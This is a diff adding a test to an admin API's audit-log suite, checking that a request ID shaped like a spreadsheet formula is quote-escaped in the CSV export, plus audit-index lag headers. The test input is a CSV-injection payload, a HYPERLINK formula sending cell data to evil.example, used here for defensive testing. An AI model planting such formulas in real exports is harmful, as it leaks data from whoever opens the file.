@@ -218,3 +218,24 @@ def test_a_mutating_request_to_an_odd_unknown_path_is_answered_and_recorded_cut_
                                           for e in found))
     odd = next(e for e in recorded if "xxx" in e["details"]["path"])
     assert len(odd["details"]["path"]) == 200 and odd["details"]["path"].startswith("/api/\x00\x1b")
+
+
+def test_a_request_id_that_looks_like_a_formula_is_text_in_the_csv_and_the_page_says_its_source(
+        gw, admin) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1)'
+    made = admin.post("/api/admin/teams", json={"team_id": "csv-team", "name": "csv"},
+                      headers={"x-request-id": formula})
+    assert made.status_code == 201 and made.headers["x-request-id"] == formula
+    wait_for(admin, {"type": "AdminActionPerformed"}, lambda found: any(e["request_id"] == formula
+                                                                         for e in found))
+    page = admin.get("/api/admin/audit", params={"type": "AdminActionPerformed", "format": "csv",
+                                                 "limit": 1000})
+    rows = list(csv.DictReader(io.StringIO(page.text)))
+    assert "'" + formula in {r["request_id"] for r in rows}  # quoted: a spreadsheet shows it as text
+    assert formula not in {r["request_id"] for r in rows}
+    assert page.headers["x-audit-source"] in {"index", "index+trail", "trail"}
+    assert int(page.headers["x-audit-head-seq"]) >= int(page.headers.get("x-audit-indexed-seq", "0"))
+    body = admin.get("/api/admin/audit", params={"limit": 1}).json()
+    projection = body["projection"]
+    assert projection["lag_entries"] == projection["head_seq"] - projection["indexed_seq"] >= 0
+    assert body["entries"][0]["seq"] == projection["head_seq"]  # the newest, whatever the lag
